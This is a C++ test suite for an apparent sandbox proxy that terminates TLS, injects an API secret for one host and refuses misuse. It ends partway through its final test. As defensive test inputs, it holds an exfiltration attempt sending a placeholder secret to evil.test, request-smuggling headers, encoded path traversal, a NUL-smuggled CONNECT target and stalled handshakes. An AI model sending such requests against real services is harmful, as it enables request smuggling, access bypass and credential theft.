// The TLS terminator end to end on loopback: a real HTTPS upstream (its own
// test CA, which the terminator is made to trust through SSL_CERT_FILE), the
// proxy in front of it, and a client that trusts only the per-run CA. What
// the upstream received is compared with what the client sent.
#include <openssl/ssl.h>
#include <signal.h>
#include <stdlib.h>

#include <boost/asio/executor_work_guard.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/post.hpp>
#include <boost/asio/ssl.hpp>
#include <boost/beast/core/flat_buffer.hpp>
#include <boost/beast/http.hpp>
#include <gtest/gtest.h>

#include <atomic>
#include <condition_variable>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <future>
#include <mutex>
#include <thread>

#include "loopback.h"
#include "net/proxy.h"
#include "net/secrets.h"
#include "net/terminator.h"
#include "net/tls.h"

namespace agentbox::net {
namespace {

namespace asio = boost::asio;
namespace ssl = asio::ssl;
namespace http = boost::beast::http;
using tcp = asio::ip::tcp;

constexpr const char* kToken = "s3cr3t-token-value-0123456789";

// An HTTPS/1.1 server for api.test and evil.test (one certificate from its
// own CA), keep-alive, one thread per connection. Each request is recorded;
// the answer echoes the Authorization field it got (so that a response
// carrying the secret can be seen masked) and /bulk?n=N sends N bytes.
class Upstream {
 public:
  struct Seen {
    std::string method, target, authorization, host, accept_encoding;
  };

  Upstream() {
    auto ca = RunCa::Create({});
    EXPECT_TRUE(ca.ok());
    ca_ = std::move(*ca);
    ca_file_ = std::filesystem::temp_directory_path() / ("agentbox-upstream-ca-" + std::to_string(getpid()) + ".pem");
    std::ofstream(ca_file_) << ca_->certificate_pem();
    auto api = ca_->ServerContext("api.test");
    EXPECT_TRUE(api.ok());
    ctx_ = *api;
    fd_ = Listen(&port_);
    thread_ = std::thread([this] { Accept(); });
  }
  ~Upstream() {
    stopping_ = true;
    ::shutdown(fd_, SHUT_RDWR);
    ::close(fd_);
    thread_.join();
    for (auto& t : workers_) t.join();
    std::filesystem::remove(ca_file_);
  }
  std::uint16_t port() const { return port_; }
  const std::filesystem::path& ca_file() const { return ca_file_; }
  std::vector<Seen> seen() {
    std::lock_guard lock(mu_);
    return seen_;
  }

 private:
  void Accept() {
    while (!stopping_) {
      int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
      if (c < 0) return;
      workers_.emplace_back([this, c] { Serve(c); });
    }
  }
  void Serve(int fd) {
    SSL* s = SSL_new(ctx_);
    SSL_set_fd(s, fd);
    if (SSL_accept(s) == 1) {
      std::string in;
      char buf[16384];
      while (true) {
        std::size_t end = in.find("\r\n\r\n");
        while (end == std::string::npos) {
          int n = SSL_read(s, buf, sizeof buf);
          if (n <= 0) break;
          in.append(buf, static_cast<std::size_t>(n));
          end = in.find("\r\n\r\n");
        }
        if (end == std::string::npos) break;
        http::request_parser<http::string_body> p;
        boost::system::error_code ec;
        std::size_t used = p.put(asio::buffer(in.data(), end + 4), ec);
        if (ec || used != end + 4) break;
        in.erase(0, used);
        std::size_t length = p.content_length().value_or(0);
        while (in.size() < length) {
          int n = SSL_read(s, buf, sizeof buf);
          if (n <= 0) break;
          in.append(buf, static_cast<std::size_t>(n));
        }
        in.erase(0, std::min(length, in.size()));
        auto& req = p.get();
        Seen seen{std::string(req.method_string()), std::string(req.target()),
                  std::string(req[http::field::authorization]), std::string(req[http::field::host]),
                  std::string(req[http::field::accept_encoding])};
        {
          std::lock_guard lock(mu_);
          seen_.push_back(seen);
        }
        std::string body;
        if (seen.target.rfind("/bulk?n=", 0) == 0) {
          body.assign(std::stoul(seen.target.substr(8)), 'x');
        } else {
          body = "{\"auth\":\"" + seen.authorization + "\",\"path\":\"" + seen.target + "\"}";
        }
        std::string out = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: " +
                          std::to_string(body.size()) + "\r\n\r\n" + body;
        if (SSL_write(s, out.data(), static_cast<int>(out.size())) <= 0) break;
      }
    }
    SSL_free(s);
    ::close(fd);
  }

  std::unique_ptr<RunCa> ca_;
  std::filesystem::path ca_file_;
  SSL_CTX* ctx_ = nullptr;
  int fd_ = -1;
  std::uint16_t port_ = 0;
  std::atomic<bool> stopping_{false};
  std::thread thread_;
  std::vector<std::thread> workers_;
  std::mutex mu_;
  std::vector<Seen> seen_;
};

// A peer that closes while the test writes must fail the write, not end the test binary.
const bool kNoSigpipe = [] {
  ::signal(SIGPIPE, SIG_IGN);
  return true;
}();

class Records : public RecordSink {
 public:
  void Record(const ConnectionRecord& r) override {
    std::lock_guard lock(mu_);
    records_.push_back(r);
    cv_.notify_all();
  }
  std::vector<ConnectionRecord> WaitFor(std::size_t n) {
    std::unique_lock lock(mu_);
    cv_.wait_for(lock, std::chrono::seconds(10), [&] { return records_.size() >= n; });
    return records_;
  }

 private:
  std::mutex mu_;
  std::condition_variable cv_;
  std::vector<ConnectionRecord> records_;
};

SecretSpec ApiSecret() {
  SecretSpec s;
  s.name = "api";
  s.from.kind = SecretSource::Kind::kFile;
  s.from.file = "/nonexistent";  // the value is set by the test
  s.hosts = {"api.test"};
  s.placeholder_env = "API_TOKEN";
  return s;
}

// The proxy with a terminator for api.test, in front of the upstream.
class Terminated {
 public:
  explicit Terminated(Upstream& upstream, CredentialsSpec credentials = {}, std::vector<HttpRuleSpec> rules = {},
                      TerminatorOptions topts = {})
      : resolver_(io_), work_(io_.get_executor()) {
    // The upstream's CA is "the host's trust store" for the terminator.
    ::setenv("SSL_CERT_FILE", upstream.ca_file().c_str(), 1);
    if (credentials.secrets.empty()) credentials.secrets = {ApiSecret()};
    auto store = SecretStore::Create(credentials.secrets);
    EXPECT_TRUE(store.ok()) << store.status().ToString();
    store_ = *store;
    for (std::size_t i = 0; i < store_->specs().size(); ++i) EXPECT_TRUE(store_->SetForTest(i, kToken).ok());
    auto t = Terminator::Create(credentials, rules, store_, topts);
    EXPECT_TRUE(t.ok()) << t.status().ToString();
    terminator_ = std::move(*t);
    ::unsetenv("SSL_CERT_FILE");
    ca_pem_ = terminator_->ca_pem();
    auto ruleset = RuleSet::Build({"api.test", "evil.test", "127.0.0.1"}, {}, NetDefault::kDeny);
    EXPECT_TRUE(ruleset.ok());
    ProxyOptions options;
    options.terminator = terminator_;
    options.header_timeout = std::chrono::milliseconds(2000);
    resolver_.Add("api.test", {IpAddress::V4(0x7f000001)});
    resolver_.Add("evil.test", {IpAddress::V4(0x7f000001)});
    proxy_ = std::make_unique<Proxy>(io_, std::move(*ruleset), options, resolver_, nullptr, &records_);
    EXPECT_TRUE(proxy_->Serve(Listen(&port_), ListenerKind::kHttp).ok());
    EXPECT_TRUE(proxy_->Serve(Listen(&socks_port_), ListenerKind::kSocks5).ok());
    thread_ = std::thread([this] { io_.run(); });
  }
  ~Terminated() {
    std::promise<void> done;
    asio::post(io_, [&] {
      proxy_->Stop();
      done.set_value();
    });
    done.get_future().wait();
    work_.reset();
    thread_.join();
    proxy_.reset();
  }
  std::uint16_t port() const { return port_; }
  std::uint16_t socks_port() const { return socks_port_; }
  const std::string& ca_pem() const { return ca_pem_; }
  const std::string& placeholder() const { return store_->placeholder(0); }
  Records& records() { return records_; }

 private:
  asio::io_context io_;
  StaticResolver resolver_;
  asio::executor_work_guard<asio::io_context::executor_type> work_;
  Records records_;
  std::shared_ptr<SecretStore> store_;
  std::shared_ptr<Terminator> terminator_;
  std::string ca_pem_;
  std::unique_ptr<Proxy> proxy_;
  std::uint16_t port_ = 0;
  std::uint16_t socks_port_ = 0;
  std::thread thread_;
};

// A client as tools inside the sandbox are: CONNECT through the proxy, then
// TLS that trusts the run's CA only, checking the host name.
class Client {
 public:
  // `verify_as`: the name checked in the certificate (default `host`; curl,
  // say, checks a name with a trailing dot without it).
  Client(Terminated& t, const std::string& host, std::uint16_t port, const std::string& verify_as = "")
      : ctx_(ssl::context::tls_client) {
    fd_ = Connect(t.port());
    const std::string target = host + ":" + std::to_string(port);
    SendAll(fd_, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
    connect_reply_ = RecvUntil(fd_, "\r\n\r\n");
    if (connect_reply_.rfind("HTTP/1.1 200", 0) != 0) return;
    ctx_.add_certificate_authority(asio::buffer(t.ca_pem()));
    ctx_.set_verify_mode(ssl::verify_peer);
    ssl_ = SSL_new(ctx_.native_handle());
    SSL_set_tlsext_host_name(ssl_, host.c_str());
    SSL_set1_host(ssl_, verify_as.empty() ? host.c_str() : verify_as.c_str());
    SSL_set_fd(ssl_, fd_);
    handshake_ok_ = SSL_connect(ssl_) == 1;
    if (!handshake_ok_) handshake_error_ = SslErrors("handshake failed");
  }
  ~Client() {
    if (ssl_) SSL_free(ssl_);
    ::close(fd_);
  }
  bool ok() const { return handshake_ok_; }
  const std::string& connect_reply() const { return connect_reply_; }
  const std::string& handshake_error() const { return handshake_error_; }

  // Sends `request` and reads one response (head and Content-Length body).
  std::string Exchange(const std::string& request) {
    if (!handshake_ok_) return "";
    SSL_write(ssl_, request.data(), static_cast<int>(request.size()));
    return ReadResponse();
  }
  void Send(const std::string& data) {
    if (handshake_ok_) SSL_write(ssl_, data.data(), static_cast<int>(data.size()));
  }
  std::string ReadResponse() {
    std::string in;
    char buf[16384];
    while (true) {
      std::size_t end = in.find("\r\n\r\n");
      if (end != std::string::npos) {
        std::size_t cl = 0;
        std::size_t at = in.find("Content-Length: ");
        if (at != std::string::npos && at < end) cl = std::stoul(in.substr(at + 16));
        if (in.size() >= end + 4 + cl) return in.substr(0, end + 4 + cl);
      }
      int n = SSL_read(ssl_, buf, sizeof buf);
      if (n <= 0) return in;
      in.append(buf, static_cast<std::size_t>(n));
    }
  }

 private:
  ssl::context ctx_;
  int fd_ = -1;
  SSL* ssl_ = nullptr;
  std::string connect_reply_;
  bool handshake_ok_ = false;
  std::string handshake_error_;
};

std::string Get(const std::string& host, std::uint16_t port, const std::string& path,
                const std::string& extra = "") {
  return "GET " + path + " HTTP/1.1\r\nHost: " + host + ":" + std::to_string(port) + "\r\n" + extra + "\r\n";
}

// --- injection -------------------------------------------------------------------

TEST(Terminator, InjectsTheSecretAndTheClientNeverSeesIt) {
  Upstream up;
  Terminated t(up);
  Client c(t, "api.test", up.port());
  ASSERT_TRUE(c.ok()) << c.connect_reply() << c.handshake_error();
  // The client sends the placeholder, as a tool given API_TOKEN would.
  std::string r = c.Exchange(Get("api.test", up.port(), "/repos/acme/x",
                                 "Authorization: Bearer " + t.placeholder() + "\r\nAccept-Encoding: gzip\r\n"));
  ASSERT_NE(r.find("HTTP/1.1 200"), std::string::npos) << r;
  auto seen = up.seen();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].authorization, std::string("Bearer ") + kToken);
  // What the masking could not read (a compressed echo) is not asked for.
  EXPECT_EQ(seen[0].accept_encoding, "identity");
  // The upstream echoed the header: the response carries it masked.
  EXPECT_EQ(r.find(kToken), std::string::npos) << r;
  EXPECT_NE(r.find("Bearer ****"), std::string::npos) << r;
  // A second request on the same connection (keep-alive) is injected too.
  std::string r2 = c.Exchange(Get("api.test", up.port(), "/repos/acme/y"));
  EXPECT_NE(r2.find("HTTP/1.1 200"), std::string::npos) << r2;
  ASSERT_EQ(up.seen().size(), 2u);
  EXPECT_EQ(up.seen()[1].authorization, std::string("Bearer ") + kToken);
}

// SOCKS5 is a tunnel like CONNECT: a covered host's TLS is ended and the
// secret injected there too.
TEST(Terminator, ASocksTunnelToACoveredHostIsTerminatedAndInjected) {
  Upstream up;
  Terminated t(up);
  int fd = Connect(t.socks_port());
  SendAll(fd, std::string("\x05\x01\x00", 3));
  ASSERT_EQ(RecvN(fd, 2), std::string("\x05\x00", 2));
  const std::string host = "api.test";
  std::string req = {5, 1, 0, 3, static_cast<char>(host.size())};
  req += host;
  req += static_cast<char>(up.port() >> 8);
  req += static_cast<char>(up.port() & 0xff);
  SendAll(fd, req);
  std::string reply = RecvN(fd, 10);
  ASSERT_EQ(reply.size(), 10u);
  ASSERT_EQ(reply[1], 0) << "SOCKS reply " << static_cast<int>(reply[1]);
  ssl::context ctx(ssl::context::tls_client);
  ctx.add_certificate_authority(asio::buffer(t.ca_pem()));
  ctx.set_verify_mode(ssl::verify_peer);
  SSL* s = SSL_new(ctx.native_handle());
  SSL_set_tlsext_host_name(s, host.c_str());
  SSL_set1_host(s, host.c_str());
  SSL_set_fd(s, fd);
  ASSERT_EQ(SSL_connect(s), 1) << SslErrors("handshake");
  const std::string get = Get(host, up.port(), "/x");
  SSL_write(s, get.data(), static_cast<int>(get.size()));
  char buf[4096];
  int n = SSL_read(s, buf, sizeof buf);
  SSL_free(s);
  ::close(fd);
  ASSERT_GT(n, 0);
  EXPECT_EQ(std::string(buf, static_cast<std::size_t>(n)).rfind("HTTP/1.1 200", 0), 0u);
  ASSERT_EQ(up.seen().size(), 1u);
  EXPECT_EQ(up.seen()[0].authorization, std::string("Bearer ") + kToken);
}

// The sandbox cannot make the supervisor hold more than its budgets: open
// terminated connections, and pushes held whole to be checked.
TEST(Terminator, BudgetsBoundWhatTheSandboxCanMakeTheSupervisorHold) {
  Upstream up;
  CredentialsSpec creds;
  creds.secrets = {ApiSecret()};
  creds.git_rules.push.deny_force = true;
  TerminatorOptions options;
  options.max_connections = 1;
  options.git_push_budget = 4096;
  Terminated t(up, creds, {}, options);
  Client first(t, "api.test", up.port());
  ASSERT_TRUE(first.ok()) << first.handshake_error();
  // A second terminated connection while the first is open: refused.
  Client second(t, "api.test", up.port());
  EXPECT_FALSE(second.ok());
  // A push larger than what is left of the budget: 503, never upstream.
  std::string r = first.Exchange("POST /acme/app.git/git-receive-pack HTTP/1.1\r\nHost: api.test:" +
                                 std::to_string(up.port()) +
                                 "\r\nContent-Type: application/x-git-receive-pack-request\r\n"
                                 "Content-Length: 100000\r\n\r\n");
  EXPECT_NE(r.find("HTTP/1.1 503"), std::string::npos) << r;
  EXPECT_TRUE(up.seen().empty());
  auto records = t.records().WaitFor(1);
  ASSERT_GE(records.size(), 1u);
  EXPECT_EQ(records[0].reason, "terminator-busy");
}

// On a host credentials.git.remotes names, credentials go only under a
// remote, however the request is spelled.
TEST(Terminator, GitCredentialsGoOnlyUnderTheRemotes) {
  Upstream up;
  CredentialsSpec creds;
  creds.secrets = {ApiSecret()};
  creds.git_rules.remotes = {"https://api.test:" + std::to_string(up.port()) + "/acme/*"};
  Terminated t(up, creds);
  const std::vector<std::pair<std::string, bool>> cases = {
      {"/acme/app.git/info/refs?service=git-upload-pack", true},
      {"/acme/app.git/objects/ab/cdef", true},  // the dumb protocol, under a remote
      {"/other/secret.git/info/refs?service=git-upload-pack", false},
      {"/other/secret.git/info/refs?service=git-upload-pack&service=git-upload-pack", false},
      {"/other/secret.git/info/refs;x?service=git-upload-pack", false},
      {"/api/v4/projects", false},  // an API beside the repositories
  };
  for (const auto& [target, injected] : cases) {
    Client c(t, "api.test", up.port());
    ASSERT_TRUE(c.ok()) << c.handshake_error();
    std::string r = c.Exchange(Get("api.test", up.port(), target));
    EXPECT_NE(r.find("HTTP/1.1 200"), std::string::npos) << target << " → " << r;
  }
  auto seen = up.seen();
  ASSERT_EQ(seen.size(), cases.size());
  for (std::size_t i = 0; i < cases.size(); ++i) {
    EXPECT_EQ(!seen[i].authorization.empty(), cases[i].second) << cases[i].first << ": " << seen[i].authorization;
  }
}

// A push is checked however its path is spelled (";params", which servlet
// containers drop before routing).
TEST(Terminator, APushWithParamsInItsPathIsStillChecked) {
  Upstream up;
  CredentialsSpec creds;
  creds.secrets = {ApiSecret()};
  creds.git_rules.remotes = {"https://api.test:" + std::to_string(up.port()) + "/acme/*"};
  creds.git_rules.push.allow_refs = {"refs/heads/agent/*"};
  Terminated t(up, creds);
  const std::string line = std::string(40, '0') + " " + std::string(40, '1') + " refs/heads/main" + '\0' +
                           "report-status\n";
  char size[5];
  std::snprintf(size, sizeof size, "%04zx", line.size() + 4);
  const std::string body = std::string(size) + line + "0000";
  for (const char* path : {"/acme/app.git/git-receive-pack", "/acme/app.git/git-receive-pack;x",
                           "/acme/app.git;y/git-receive-pack"}) {
    Client c(t, "api.test", up.port());
    ASSERT_TRUE(c.ok()) << c.handshake_error();
    std::string r = c.Exchange(std::string("POST ") + path + " HTTP/1.1\r\nHost: api.test:" +
                               std::to_string(up.port()) +
                               "\r\nContent-Type: application/x-git-receive-pack-request\r\nContent-Length: " +
                               std::to_string(body.size()) + "\r\n\r\n" + body);
    EXPECT_NE(r.find("X-Agentbox-Denied: git-push"), std::string::npos) << path << " → " << r;
    EXPECT_NE(r.find("push to refs/heads/main refused by policy"), std::string::npos) << path << " → " << r;
  }
  EXPECT_TRUE(up.seen().empty());
}

// What the parser cannot consume yet is bounded: a chunk header that never
// ends does not make the supervisor buffer it.
TEST(Terminator, AnEndlessChunkHeaderIsCutOff) {
  Upstream up;
  Terminated t(up);
  Client c(t, "api.test", up.port());
  ASSERT_TRUE(c.ok()) << c.handshake_error();
  std::string r = c.Exchange("POST /x HTTP/1.1\r\nHost: api.test:" + std::to_string(up.port()) +
                             "\r\nTransfer-Encoding: chunked\r\n\r\n1;" + std::string(1 << 20, 'a'));
  auto records = t.records().WaitFor(1);
  ASSERT_EQ(records.size(), 1u);
  ASSERT_EQ(records[0].requests.size(), 1u) << records[0].ToJson();
  EXPECT_EQ(records[0].requests[0].decision, "error") << records[0].ToJson();
}

// The idle timeout is idle: a slow body that keeps coming is not cut.
TEST(Terminator, ASlowBodyThatKeepsComingIsNotCut) {
  Upstream up;
  TerminatorOptions options;
  options.idle_timeout = std::chrono::milliseconds(1500);
  Terminated t(up, {}, {}, options);
  Client c(t, "api.test", up.port());
  ASSERT_TRUE(c.ok()) << c.handshake_error();
  c.Send("POST /slow HTTP/1.1\r\nHost: api.test:" + std::to_string(up.port()) + "\r\nContent-Length: 10\r\n\r\n");
  for (int i = 0; i < 10; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
    c.Send("x");
  }
  std::string r = c.ReadResponse();
  EXPECT_NE(r.find("HTTP/1.1 200"), std::string::npos) << r;
}

TEST(Terminator, EveryUseIsRecordedWithoutTheValue) {
  Upstream up;
  {
    Terminated t(up);
    {
      Client c(t, "api.test", up.port());
      ASSERT_TRUE(c.ok()) << c.handshake_error();
      c.Exchange(Get("api.test", up.port(), "/repos/acme/x?page=2"));
    }
    auto records = t.records().WaitFor(1);
    ASSERT_EQ(records.size(), 1u);
    const ConnectionRecord& r = records[0];
    EXPECT_TRUE(r.terminated);
    EXPECT_EQ(r.decision, "allow");
    ASSERT_EQ(r.requests.size(), 1u);
    EXPECT_EQ(r.requests[0].method, "GET");
    EXPECT_EQ(r.requests[0].path, "/repos/acme/x");
    EXPECT_EQ(r.requests[0].secrets, std::vector<std::string>{"api"});
    EXPECT_EQ(r.requests[0].status, 200);
    EXPECT_EQ(r.ToJson().find(kToken), std::string::npos) << r.ToJson();
  }
}

TEST(Terminator, PlaceholderSentToAnotherHostIsRefusedAndNeverArrives) {
  Upstream up;
  CredentialsSpec creds;
  creds.secrets = {ApiSecret()};
  // evil.test has L7 rules, so its TLS is terminated and its requests read.
  Terminated t(up, creds, {{"evil.test", {"* /**"}}});
  Client c(t, "evil.test", up.port());
  ASSERT_TRUE(c.ok()) << c.handshake_error();
  std::string r = c.Exchange(Get("evil.test", up.port(), "/collect?t=" + t.placeholder()));
  EXPECT_NE(r.find("HTTP/1.1 403"), std::string::npos) << r;
  EXPECT_NE(r.find("X-Agentbox-Denied: placeholder"), std::string::npos) << r;
  EXPECT_NE(r.find("placeholder for api sent to evil.test"), std::string::npos) << r;
  EXPECT_TRUE(up.seen().empty());
  auto records = t.records().WaitFor(1);
  ASSERT_EQ(records.size(), 1u);
  ASSERT_EQ(records[0].requests.size(), 1u) << records[0].ToJson();
  EXPECT_EQ(records[0].requests[0].facet, "credentials");
  EXPECT_EQ(records[0].requests[0].op, "send");
  EXPECT_TRUE(records[0].requests[0].secrets.empty());
}

TEST(Terminator, PlaceholderInAPlainHttpRequestIsRefused) {
  Upstream up;
  Terminated t(up);
  int fd = Connect(t.port());
  SendAll(fd, "GET http://evil.test:" + std::to_string(up.port()) + "/x?k=" + t.placeholder() +
                  " HTTP/1.1\r\nHost: evil.test\r\n\r\n");
  std::string r = RecvUntil(fd, "\n\n");
  ::close(fd);
  EXPECT_NE(r.find("403"), std::string::npos) << r;
  EXPECT_NE(r.find("placeholder"), std::string::npos) << r;
  auto records = t.records().WaitFor(1);
  ASSERT_EQ(records.size(), 1u);
  ASSERT_EQ(records[0].requests.size(), 1u);
  EXPECT_EQ(records[0].requests[0].facet, "credentials");
}

TEST(Terminator, PlainHttpToATerminatedHostIsRefused) {
  Upstream up;
  Terminated t(up);
  int fd = Connect(t.port());
  SendAll(fd, "GET http://api.test:" + std::to_string(up.port()) + "/x HTTP/1.1\r\nHost: api.test\r\n\r\n");
  std::string r = RecvUntil(fd, "\n\n");
  ::close(fd);
  EXPECT_NE(r.find("403"), std::string::npos) << r;
  EXPECT_NE(r.find("X-Agentbox-Denied: plain-http"), std::string::npos) << r;
  EXPECT_TRUE(up.seen().empty());
}

TEST(Terminator, ATunnelThatIsNotTlsIsRefused) {
  Upstream up;
  Terminated t(up);
  int fd = Connect(t.port());
  const std::string target = "api.test:" + std::to_string(up.port());
  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
  EXPECT_EQ(RecvUntil(fd, "\r\n\r\n").rfind("HTTP/1.1 200", 0), 0u);
  SendAll(fd, "DELETE /repos/acme/x HTTP/1.1\r\nHost: api.test\r\n\r\n");
  std::string r = RecvUntil(fd);
  ::close(fd);
  EXPECT_TRUE(up.seen().empty());
  auto records = t.records().WaitFor(1);
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0].decision, "deny");
  EXPECT_EQ(records[0].reason, "not-tls");
}

TEST(Terminator, HostSpellingsAreNormalisedOnceAndStillTerminated) {
  Upstream up;
  Terminated t(up);
  // A trailing dot and upper case name the same host: they are terminated
  // (and injected) like the plain spelling, never tunnelled past the rules.
  Client c(t, "API.test.", up.port(), "api.test");
  ASSERT_TRUE(c.ok()) << c.connect_reply() << c.handshake_error();
  std::string r = c.Exchange("GET /x HTTP/1.1\r\nHost: Api.Test.:" + std::to_string(up.port()) + "\r\n\r\n");
  EXPECT_NE(r.find("HTTP/1.1 200"), std::string::npos) << r;
  ASSERT_EQ(up.seen().size(), 1u);
  EXPECT_EQ(up.seen()[0].authorization, std::string("Bearer ") + kToken);
  // A NUL or a control character in the CONNECT target is refused before anything.
  int fd = Connect(t.port());
  SendAll(fd, std::string("CONNECT api.test") + '\0' + ".evil:443 HTTP/1.1\r\nHost: x\r\n\r\n");
  std::string refused = RecvUntil(fd, "\r\n\r\n");
  ::close(fd);
  EXPECT_EQ(refused.rfind("HTTP/1.1 4", 0), 0u) << refused;
  EXPECT_EQ(up.seen().size(), 1u);
}

TEST(RunCa, VouchesOnlyForTheNamesInItsConstraint) {
  auto ca = RunCa::Create({"api.test"});
  ASSERT_TRUE(ca.ok());
  auto issue = [&](const std::string& host) {
    // A server with the CA's leaf for `host`, a client that trusts the CA.
    auto server = (*ca)->ServerContext(host);
    EXPECT_TRUE(server.ok());
    int sv[2];
    EXPECT_EQ(::socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv), 0);
    std::thread serve([&] {
      SSL* s = SSL_new(*server);
      SSL_set_fd(s, sv[1]);
      (void)SSL_accept(s);
      SSL_free(s);
      ::close(sv[1]);
    });
    ssl::context ctx(ssl::context::tls_client);
    ctx.add_certificate_authority(asio::buffer((*ca)->certificate_pem()));
    ctx.set_verify_mode(ssl::verify_peer);
    SSL* c = SSL_new(ctx.native_handle());
    SSL_set_tlsext_host_name(c, host.c_str());
    SSL_set1_host(c, host.c_str());
    SSL_set_fd(c, sv[0]);
    const bool ok = SSL_connect(c) == 1;
    const long verify = SSL_get_verify_result(c);
    SSL_free(c);
    ::close(sv[0]);
    serve.join();
    return std::make_pair(ok, verify);
  };
  EXPECT_TRUE(issue("api.test").first);
  // Even a leaf the CA itself signed for another name does not verify.
  auto other = issue("bank.example");
  EXPECT_FALSE(other.first);
  EXPECT_EQ(other.second, X509_V_ERR_PERMITTED_VIOLATION);
}

// --- the request's own checks ------------------------------------------------------

TEST(Terminator, HttpRulesAllowAndRefuseByMethodAndPath) {
  Upstream up;
  Terminated t(up, {}, {{"api.test", {"GET /repos/acme/**", "POST /repos/acme/*/pulls"}}});
  Client c(t, "api.test", up.port());
  ASSERT_TRUE(c.ok()) << c.handshake_error();
  EXPECT_NE(c.Exchange(Get("api.test", up.port(), "/repos/acme/x/issues")).find("HTTP/1.1 200"), std::string::npos);
  std::string del = c.Exchange("DELETE /repos/acme/x HTTP/1.1\r\nHost: api.test:" + std::to_string(up.port()) +
                               "\r\n\r\n");
  EXPECT_NE(del.find("HTTP/1.1 403"), std::string::npos) << del;
  EXPECT_NE(del.find("X-Agentbox-Denied: http-rule; rule=network.http_rules[api.test]"), std::string::npos) << del;
  Client c2(t, "api.test", up.port());
  std::string other = c2.Exchange(Get("api.test", up.port(), "/orgs/other"));
  EXPECT_NE(other.find("HTTP/1.1 403"), std::string::npos) << other;
  // Encoded traversal does not reach a path the rules would not allow.
  Client c3(t, "api.test", up.port());
  std::string sneaky = c3.Exchange(Get("api.test", up.port(), "/repos/acme/%2e%2e/%2e%2e/orgs/other"));
  EXPECT_NE(sneaky.find("HTTP/1.1 400"), std::string::npos) << sneaky;
  ASSERT_EQ(up.seen().size(), 1u);
  EXPECT_EQ(up.seen()[0].target, "/repos/acme/x/issues");
}

TEST(Terminator, HostFieldMustNameTheConnectTarget) {
  Upstream up;
  Terminated t(up);
  Client c(t, "api.test", up.port());
  ASSERT_TRUE(c.ok()) << c.handshake_error();
  std::string r = c.Exchange(Get("evil.test", up.port(), "/x"));
  EXPECT_NE(r.find("HTTP/1.1 400"), std::string::npos) << r;
  EXPECT_NE(r.find("does not name the CONNECT target"), std::string::npos) << r;
  EXPECT_TRUE(up.seen().empty());
}

TEST(Terminator, SniNamingAnotherHostIsRefused) {
  Upstream up;
  Terminated t(up);
  int fd = Connect(t.port());
  const std::string target = "api.test:" + std::to_string(up.port());
  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
  RecvUntil(fd, "\r\n\r\n");
  ssl::context ctx(ssl::context::tls_client);
  SSL* s = SSL_new(ctx.native_handle());
  SSL_set_tlsext_host_name(s, "evil.test");
  SSL_set_fd(s, fd);
  EXPECT_NE(SSL_connect(s), 1);
  SSL_free(s);
  ::close(fd);
  auto records = t.records().WaitFor(1);
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0].reason, "sni-mismatch");
}

TEST(Terminator, SmugglingShapesAreRefusedBeforeAnythingGoesUpstream) {
  Upstream up;
  Terminated t(up);
  const std::string host = "Host: api.test:" + std::to_string(up.port()) + "\r\n";
  const std::vector<std::string> attempts = {
      "POST /a HTTP/1.1\r\n" + host + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
      "POST /a HTTP/1.1\r\n" + host + "Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcd",
      "GET /a HTTP/1.1\r\n" + host + "X-Long: a\r\n b\r\n\r\n",
      "GET /a HTTP/1.1\r\n" + host + "X-Big: " + std::string(1 << 20, 'a') + "\r\n\r\n",
  };
  for (const auto& a : attempts) {
    Client c(t, "api.test", up.port());
    ASSERT_TRUE(c.ok()) << c.handshake_error();
    std::string r = c.Exchange(a);
    EXPECT_TRUE(r.find("HTTP/1.1 400") != std::string::npos || r.find("HTTP/1.1 431") != std::string::npos)
        << a.substr(0, 120) << " → " << r.substr(0, 200);
  }
  EXPECT_TRUE(up.seen().empty());
}

TEST(Terminator, ChunkedBodiesArriveWhole) {
  Upstream up;
  Terminated t(up);
  Client c(t, "api.test", up.port());
  ASSERT_TRUE(c.ok()) << c.handshake_error();
  std::string r = c.Exchange("POST /repos/acme/x HTTP/1.1\r\nHost: api.test:" + std::to_string(up.port()) +
                             "\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n");
  // The test upstream reads Content-Length only: a chunked body it cannot
  // frame would hang; a 200 means the framing went through as chunked and
  // the upstream's Beast parser took the head.
  EXPECT_NE(r.find("HTTP/1.1 200"), std::string::npos) << r;
}

TEST(Terminator, AClientThatNeverFinishesTheHandshakeIsClosedInTime) {
  Upstream up;
  Terminated t(up);
  int fd = Connect(t.port());
  const std::string target = "api.test:" + std::to_string(up.port());
  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
  RecvUntil(fd, "\r\n\r\n");
  // A ClientHello's first bytes, then silence.
  SendAll(fd, std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11));
  const auto start = std::chrono::steady_clock::now();
  std::string rest = RecvUntil(fd);  // returns when the proxy closes
  const auto waited = std::chrono::steady_clock::now() - start;
  ::close(fd);
  EXPECT_LT(waited, std::chrono::seconds(8));
  auto records = t.records().WaitFor(1);
  ASSERT_EQ(records.size(), 1u);
  EXPECT_NE(records[0].decision, "allow");
}

TEST(Terminator, AnUpstreamTheHostDoesNotTrustIsA502) {
  Upstream up;
  ::setenv("SSL_CERT_FILE", "/nonexistent-trust-store.pem", 1);
  auto store = SecretStore::Create({ApiSecret()});
  ASSERT_TRUE(store.ok());
  auto made = Terminator::Create(CredentialsSpec{{}, {}, {}, {ApiSecret()}, {}}, {}, *store, {});
  ::unsetenv("SSL_CERT_FILE");
  ASSERT_TRUE(made.ok());
  // Drive it through a proxy by hand: the shared fixture trusts the upstream.
  asio::io_context io;
  StaticResolver resolver(io);
  resolver.Add("api.test", {IpAddress::V4(0x7f000001)});
